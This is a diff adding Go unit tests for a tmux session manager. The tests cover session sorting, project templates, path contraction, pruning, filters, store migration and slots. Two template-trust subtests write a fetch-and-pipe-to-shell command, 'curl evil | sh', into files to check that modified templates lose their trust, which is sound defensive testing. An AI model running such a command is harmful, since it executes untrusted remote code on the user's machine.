@@ -1,8 +1,12 @@
 package session
 
 import (
+	"errors"
+	"os"
+	"path/filepath"
 	"reflect"
 	"testing"
+	"time"
 )
 
 var (
@@ -96,3 +100,478 @@ func TestSessionFunctions(t *testing.T) {
 		}
 	})
 }
+
+func TestSortSessions(t *testing.T) {
+	now := time.Date(2025, 1, 10, 12, 0, 0, 0, time.UTC)
+	history := History{Entries: []Access{
+		{Name: "api", Count: 20, LastUsed: now.Add(-30 * 24 * time.Hour)},
+		{Name: "web", Count: 3, LastUsed: now.Add(-10 * time.Minute)},
+		{Name: "notes", Count: 1, LastUsed: now.Add(-2 * time.Minute)},
+		{Name: "infra", Count: 8, LastUsed: now.Add(-1 * time.Minute)},
+	}}
+	newSessions := func() []Session {
+		return []Session{{Name: "notes"}, {Name: "zeta"}, {Name: "api"}, {Name: "infra"}, {Name: "web"}}
+	}
+	names := func(sessions []Session) []string {
+		var n []string
+		for _, s := range sessions {
+			n = append(n, s.Name)
+		}
+		return n
+	}
+
+	cases := []struct {
+		order    string
+		expected []string
+	}{
+		{OrderAlphabetical, []string{"api", "infra", "notes", "web", "zeta"}},
+		{OrderRecency, []string{"notes", "web", "api", "zeta", "infra"}},
+		{OrderFrecency, []string{"notes", "web", "api", "zeta", "infra"}},
+		{"", []string{"notes", "zeta", "api", "infra", "web"}},
+	}
+	for _, c := range cases {
+		sessions := newSessions()
+		SortSessions(sessions, history, c.order, "infra", now)
+		if !reflect.DeepEqual(names(sessions), c.expected) {
+			t.Errorf("SortSessions(%q) = %v, expected %v", c.order, names(sessions), c.expected)
+		}
+	}
+
+	t.Run("Previous", func(t *testing.T) {
+		if p := history.Previous("infra"); p != "notes" {
+			t.Errorf("expected previous session 'notes', got '%s'", p)
+		}
+	})
+
+	t.Run("Visit", func(t *testing.T) {
+		h := History{}
+		h.Visit("api", now)
+		h.Visit("api", now.Add(time.Minute))
+		h.Touch("web", now)
+		api, _ := h.Get("api")
+		web, _ := h.Get("web")
+		if api.Count != 2 || !api.LastUsed.Equal(now.Add(time.Minute)) {
+			t.Errorf("expected api visited twice, got %+v", api)
+		}
+		if web.Count != 0 {
+			t.Errorf("expected touch not to count a visit, got %+v", web)
+		}
+	})
+}
+
+func TestTemplates(t *testing.T) {
+	SetStorePath(filepath.Join(t.TempDir(), "sessions.yaml"))
+	t.Cleanup(func() { SetStorePath("") })
+	dir := t.TempDir()
+	projectTemplate := `
+env:
+  APP_ENV: dev
+windows:
+  - name: editor
+    panes:
+      - nvim
+  - name: server
+    workdir: backend
+    layout: even-horizontal
+    panes:
+      - commands: [make run]
+      - split: h
+        workdir: /var/log
+        commands: [tail -f app.log]
+`
+	if err := os.WriteFile(filepath.Join(dir, ProjectTemplateFile), []byte(projectTemplate), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	t.Run("UntrustedProjectFile", func(t *testing.T) {
+		configured := []Template{{Session: Session{Name: "any"}, Match: dir}}
+		tmpl, ok, err := FindTemplate(dir, configured)
+		if err != nil || !ok || tmpl.Name != "any" {
+			t.Fatalf("expected the untrusted project file to be ignored, got ok=%v err=%v template=%+v", ok, err, tmpl)
+		}
+		if _, err := TrustProjectTemplate(dir); err != nil {
+			t.Fatal(err)
+		}
+		if exists, trusted, err := ProjectTemplateTrusted(dir); !exists || !trusted || err != nil {
+			t.Errorf("expected the project file to be trusted, got exists=%v trusted=%v err=%v", exists, trusted, err)
+		}
+	})
+
+	t.Run("ProjectFileWins", func(t *testing.T) {
+		configured := []Template{{Session: Session{Name: "any"}, Match: "/*"}}
+		tmpl, ok, err := FindTemplate(dir, configured)
+		if err != nil || !ok {
+			t.Fatalf("expected project template to be found, got ok=%v err=%v", ok, err)
+		}
+		if tmpl.Name == "any" {
+			t.Errorf("expected the project file to take precedence over configured templates")
+		}
+	})
+
+	t.Run("ConfiguredMatch", func(t *testing.T) {
+		configured := []Template{
+			{Session: Session{Name: "go"}, Match: "/home/*/go/*"},
+			{Session: Session{Name: "web"}, Match: "/home/*/web/*"},
+		}
+		tmpl, ok, err := FindTemplate("/home/user/web/shop", configured)
+		if err != nil || !ok || tmpl.Name != "web" {
+			t.Errorf("expected template 'web', got ok=%v err=%v template=%+v", ok, err, tmpl)
+		}
+		if _, ok, _ := FindTemplate("/srv/other", configured); ok {
+			t.Errorf("expected no template to match /srv/other")
+		}
+	})
+
+	t.Run("Instantiate", func(t *testing.T) {
+		tmpl, _, _ := FindTemplate(dir, nil)
+		s, err := tmpl.Instantiate("shop", dir)
+		if err != nil {
+			t.Fatalf("Instantiate failed: %v", err)
+		}
+		expected := Session{
+			Name:        "shop",
+			CurrentPath: dir,
+			Env:         map[string]string{"APP_ENV": "dev"},
+			Windows: []Window{
+				{
+					Index:       "1",
+					Name:        "editor",
+					CurrentPath: dir,
+					Panes: []Pane{
+						{Index: "1", CurrentPath: dir, Commands: []string{"nvim"}},
+					},
+				},
+				{
+					Index:       "2",
+					Name:        "server",
+					Layout:      "even-horizontal",
+					CurrentPath: filepath.Join(dir, "backend"),
+					Panes: []Pane{
+						{Index: "1", CurrentPath: filepath.Join(dir, "backend"), Commands: []string{"make run"}},
+						{Index: "2", CurrentPath: "/var/log", Split: "h", Commands: []string{"tail -f app.log"}},
+					},
+				},
+			},
+		}
+		if !reflect.DeepEqual(s, expected) {
+			t.Errorf("Instantiate did not produce the expected session.\nExpected: %+v\nGot:      %+v", expected, s)
+		}
+	})
+
+	t.Run("RelativeFile", func(t *testing.T) {
+		path := filepath.Join(t.TempDir(), ProjectTemplateFile)
+		if err := os.WriteFile(path, []byte("file: tmuxinator.yml\n"), 0644); err != nil {
+			t.Fatal(err)
+		}
+		tmpl, err := LoadTemplate(path)
+		if expected := filepath.Join(filepath.Dir(path), "tmuxinator.yml"); err != nil || tmpl.File != expected {
+			t.Errorf("expected file to resolve to %s, got %q (%v)", expected, tmpl.File, err)
+		}
+	})
+
+	t.Run("ModifiedReferencedFile", func(t *testing.T) {
+		dir := t.TempDir()
+		referenced := filepath.Join(dir, "tmuxinator.yml")
+		for name, content := range map[string]string{ProjectTemplateFile: "file: tmuxinator.yml\n", "tmuxinator.yml": "windows: [editor: nvim]\n"} {
+			if err := os.WriteFile(filepath.Join(dir, name), []byte(content), 0644); err != nil {
+				t.Fatal(err)
+			}
+		}
+		if _, err := TrustProjectTemplate(dir); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(referenced, []byte("windows: [editor: curl evil | sh]\n"), 0644); err != nil {
+			t.Fatal(err)
+		}
+		if exists, trusted, err := ProjectTemplateTrusted(dir); !exists || trusted || err != nil {
+			t.Errorf("expected a modified referenced file to revoke the trust, got exists=%v trusted=%v err=%v", exists, trusted, err)
+		}
+	})
+
+	t.Run("ModifiedProjectFile", func(t *testing.T) {
+		if err := os.WriteFile(filepath.Join(dir, ProjectTemplateFile), []byte("windows: [{panes: [curl evil | sh]}]\n"), 0644); err != nil {
+			t.Fatal(err)
+		}
+		if _, ok, err := FindTemplate(dir, nil); ok || err != nil {
+			t.Errorf("expected a modified project file to lose its trust, got ok=%v err=%v", ok, err)
+		}
+	})
+}
+
+func TestPathPortability(t *testing.T) {
+	t.Setenv("HOME", "/home/user")
+	t.Setenv("WORK", "/mnt/work")
+	if err := SetPathRoots(map[string]string{
+		"PROJECTS": "~/projects",
+		"GO":       "~/projects/go",
+	}); err != nil {
+		t.Fatalf("SetPathRoots failed: %v", err)
+	}
+	defer SetPathRoots(nil)
+
+	cases := []struct {
+		path   string
+		stored string
+	}{
+		{"/home/user/projects/go/go-tms", "$GO/go-tms"},
+		{"/home/user/projects/web", "$PROJECTS/web"},
+		{"/home/user/projects", "$PROJECTS"},
+		{"/home/user/notes", "~/notes"},
+		{"/home/user", "~"},
+		{"/home/username/x", "/home/username/x"},
+		{"/srv/api", "/srv/api"},
+	}
+	for _, c := range cases {
+		if got := ContractPath(c.path); got != c.stored {
+			t.Errorf("ContractPath(%q) = %q, expected %q", c.path, got, c.stored)
+		}
+		if got := ExpandPath(c.stored); got != c.path {
+			t.Errorf("ExpandPath(%q) = %q, expected %q", c.stored, got, c.path)
+		}
+	}
+
+	if got := ExpandPath("$WORK/api"); got != "/mnt/work/api" {
+		t.Errorf("expected environment variables to expand, got %q", got)
+	}
+	if got := ExpandPath("$UNSET_ROOT/api"); got != "$UNSET_ROOT/api" {
+		t.Errorf("expected unknown variables to be kept, got %q", got)
+	}
+
+	t.Run("RemapPrefix", func(t *testing.T) {
+		s := Session{
+			Name:        "api",
+			CurrentPath: "/home/aleksej/projects/api",
+			Windows: []Window{{Panes: []Pane{
+				{CurrentPath: "/home/aleksej/projects/api/cmd"},
+				{CurrentPath: "/home/aleksej/projects-old"},
+			}}},
+		}
+		remapped := s.MapPaths(RemapPrefix("/home/aleksej/projects", "/Users/alex/src"))
+		if remapped.CurrentPath != "/Users/alex/src/api" {
+			t.Errorf("unexpected session path %q", remapped.CurrentPath)
+		}
+		panes := remapped.Windows[0].Panes
+		if panes[0].CurrentPath != "/Users/alex/src/api/cmd" || panes[1].CurrentPath != "/home/aleksej/projects-old" {
+			t.Errorf("unexpected pane paths %+v", panes)
+		}
+		if s.Windows[0].Panes[0].CurrentPath != "/home/aleksej/projects/api/cmd" {
+			t.Errorf("expected MapPaths not to modify the original session")
+		}
+	})
+}
+
+func TestPruneStale(t *testing.T) {
+	dir := t.TempDir()
+	gone := filepath.Join(dir, "gone")
+	sessions := []Session{
+		{Name: "kept", CurrentPath: dir},
+		{Name: "stale", CurrentPath: gone},
+		{Name: "running", CurrentPath: gone, TmuxActive: true},
+		{Name: "pathless"},
+	}
+	kept, pruned := PruneStale(sessions)
+	if len(pruned) != 1 || pruned[0].Name != "stale" {
+		t.Errorf("expected only stale to be pruned, got %+v", pruned)
+	}
+	if len(kept) != 3 {
+		t.Errorf("expected 3 sessions to be kept, got %+v", kept)
+	}
+}
+
+func TestReplaceSessionsOnDisk(t *testing.T) {
+	SetStorePath(filepath.Join(t.TempDir(), "sessions.yaml"))
+	t.Cleanup(func() { SetStorePath("") })
+	dir := t.TempDir()
+	if err := SaveSessionsToDisk([]Session{{Name: "stale", CurrentPath: filepath.Join(dir, "gone")}}); err != nil {
+		t.Fatal(err)
+	}
+
+	sessions, err := LoadSessionsFromDisk()
+	if err != nil {
+		t.Fatal(err)
+	}
+	kept, _ := PruneStale(sessions)
+	if err := ReplaceSessionsOnDisk(kept); err != nil {
+		t.Fatal(err)
+	}
+	if sessions, err = LoadSessionsFromDisk(); err != nil || len(sessions) != 0 {
+		t.Errorf("expected pruning every session to empty the store, got %v (%v)", sessions, err)
+	}
+
+	if err := SaveSessionsToDisk([]Session{{Name: "api", CurrentPath: dir}}); err != nil {
+		t.Fatal(err)
+	}
+	if err := SaveSessionsToDisk(nil); err != nil {
+		t.Fatal(err)
+	}
+	if sessions, err = LoadSessionsFromDisk(); err != nil || len(sessions) != 1 {
+		t.Errorf("expected saving no sessions to keep the store, got %v (%v)", sessions, err)
+	}
+}
+
+func TestSessionFlags(t *testing.T) {
+	live := []Session{
+		{Name: "notes", CurrentPath: "/srv/notes/new", TmuxActive: true},
+		{Name: "infra", CurrentPath: "/srv/infra/new", TmuxActive: true},
+	}
+	saved := []Session{
+		{Name: "notes", CurrentPath: "/srv/notes", Pinned: true, Autostart: true},
+		{Name: "infra", CurrentPath: "/srv/infra", Frozen: true},
+		{Name: "blog", CurrentPath: "/srv/blog"},
+	}
+	combined, err := CombineSessions(live, saved)
+	if err != nil {
+		t.Fatalf("CombineSessions failed: %v", err)
+	}
+	if s := combined[0]; !s.Pinned || !s.Autostart || s.CurrentPath != "/srv/notes/new" {
+		t.Errorf("expected live notes to keep its flags and layout, got %+v", s)
+	}
+	if s := combined[1]; !s.Frozen || !s.TmuxActive || s.CurrentPath != "/srv/infra" {
+		t.Errorf("expected frozen infra to keep its saved layout, got %+v", s)
+	}
+
+	sessions := []Session{{Name: "a"}, {Name: "b", Pinned: true}, {Name: "c"}}
+	SortSessions(sessions, History{}, OrderAlphabetical, "", time.Now())
+	if sessions[0].Name != "b" || sessions[1].Name != "a" || sessions[2].Name != "c" {
+		t.Errorf("expected the pinned session first, got %v", sessions)
+	}
+
+	gone := filepath.Join(t.TempDir(), "gone")
+	_, pruned := PruneStale([]Session{{Name: "pinned", CurrentPath: gone, Pinned: true}})
+	if len(pruned) != 0 {
+		t.Errorf("expected pinned sessions not to be pruned, got %v", pruned)
+	}
+}
+
+func TestFilter(t *testing.T) {
+	t.Setenv("HOME", "/home/user")
+	filter, err := NewFilter("keep-*", "go-tms-startup,re:^popup-[0-9]+$", "~/Downloads/keep", "/dev/null,/tmp,~/Downloads/**")
+	if err != nil {
+		t.Fatalf("NewFilter failed: %v", err)
+	}
+	cases := []struct {
+		name string
+		path string
+		skip bool
+	}{
+		{"go-tms-startup", "/home/user", true},
+		{"popup-12", "/home/user", true},
+		{"popup-x", "/home/user", false},
+		{"scratch", "/tmp", true},
+		{"scratch", "/tmp/x", false},
+		{"dl", "/home/user/Downloads", true},
+		{"dl", "/home/user/Downloads/iso", true},
+		{"dl", "/home/user/Downloads/keep", false},
+		{"keep-tmp", "/tmp", false},
+		{"blog", "/home/user/blog", false},
+	}
+	for _, c := range cases {
+		if got := filter.Skip(c.name, c.path); got != c.skip {
+			t.Errorf("Skip(%q, %q) = %v, expected %v", c.name, c.path, got, c.skip)
+		}
+	}
+
+	if _, err := NewFilter("", "re:(", "", ""); err == nil {
+		t.Errorf("expected an error for an invalid regex")
+	}
+}
+
+func TestMigrateStore(t *testing.T) {
+	home := t.TempDir()
+	t.Setenv("HOME", home)
+	t.Setenv("XDG_STATE_HOME", filepath.Join(home, "state"))
+	legacyDir := filepath.Join(home, ".tmux", "go-tms")
+	if err := os.MkdirAll(legacyDir, 0755); err != nil {
+		t.Fatal(err)
+	}
+	for _, name := range []string{"sessions.yaml", "history.yaml"} {
+		if err := os.WriteFile(filepath.Join(legacyDir, name), []byte("[]\n"), 0644); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	moved, err := MigrateStore()
+	if err != nil {
+		t.Fatalf("MigrateStore failed: %v", err)
+	}
+	expected := []string{
+		filepath.Join(home, "state", "go-tms", "sessions.yaml"),
+		filepath.Join(home, "state", "go-tms", "history.yaml"),
+	}
+	if !reflect.DeepEqual(moved, expected) {
+		t.Errorf("MigrateStore() moved %v, expected %v", moved, expected)
+	}
+	if _, err := os.Stat(filepath.Join(legacyDir, "sessions.yaml")); err == nil {
+		t.Errorf("expected the legacy store to be moved away")
+	}
+
+	moved, err = MigrateStore()
+	if err != nil || len(moved) != 0 {
+		t.Errorf("expected a second migration to do nothing, got %v, %v", moved, err)
+	}
+}
+
+func TestMerge(t *testing.T) {
+	live := NewSource("Active", func([]Session) ([]Session, error) {
+		return []Session{{Name: "api", CurrentPath: "/src/api", TmuxActive: true}}, nil
+	})
+	saved := NewSource("Saved", func([]Session) ([]Session, error) {
+		return []Session{{Name: "api", CurrentPath: "/src/api", Pinned: true}, {Name: "web", CurrentPath: "/src/web"}}, nil
+	})
+	dirs := NewDirectorySource("Projects", func() ([]string, error) {
+		return []string{"/src/api/", "/src/docs", "/work/web", "/web"}, nil
+	})
+	var seen int
+	broken := NewSource("Tickets", func(listed []Session) ([]Session, error) {
+		seen = len(listed)
+		return nil, errors.New("offline")
+	})
+
+	merged, err := Merge(live, saved, dirs, broken)
+	if err == nil || err.Error() != "Tickets: offline" {
+		t.Errorf("expected the failing source to be reported, got %v", err)
+	}
+	if seen != 4 {
+		t.Errorf("expected a source to see the 4 entries listed before it, got %d", seen)
+	}
+	expected := []Session{
+		{Name: "api", CurrentPath: "/src/api", TmuxActive: true, Pinned: true},
+		{Name: "web", CurrentPath: "/src/web"},
+		{Name: "docs", CurrentPath: "/src/docs", Source: "Projects"},
+		{Name: "work/web", CurrentPath: "/work/web", Source: "Projects"},
+	}
+	if !reflect.DeepEqual(merged, expected) {
+		t.Errorf("Merge() = %+v, expected %+v", merged, expected)
+	}
+}
+
+func TestSlots(t *testing.T) {
+	SetStorePath(filepath.Join(t.TempDir(), "sessions.yaml"))
+	defer SetStorePath("")
+
+	slots, err := LoadSlots()
+	if err != nil || len(slots) != 0 {
+		t.Fatalf("expected no slots before any were saved, got %v, %v", slots, err)
+	}
+	slots[1] = "api"
+	slots[9] = "notes"
+	if err := SaveSlots(slots); err != nil {
+		t.Fatal(err)
+	}
+	loaded, err := LoadSlots()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !reflect.DeepEqual(loaded, slots) {
+		t.Errorf("LoadSlots() = %v, expected %v", loaded, slots)
+	}
+
+	for _, s := range []string{"0", "10", "x"} {
+		if _, err := ParseSlot(s); err == nil {
+			t.Errorf("expected ParseSlot(%q) to fail", s)
+		}
+	}
+	if n, err := ParseSlot("3"); n != 3 || err != nil {
+		t.Errorf("ParseSlot(\"3\") = %d, %v", n, err)
+	}
+}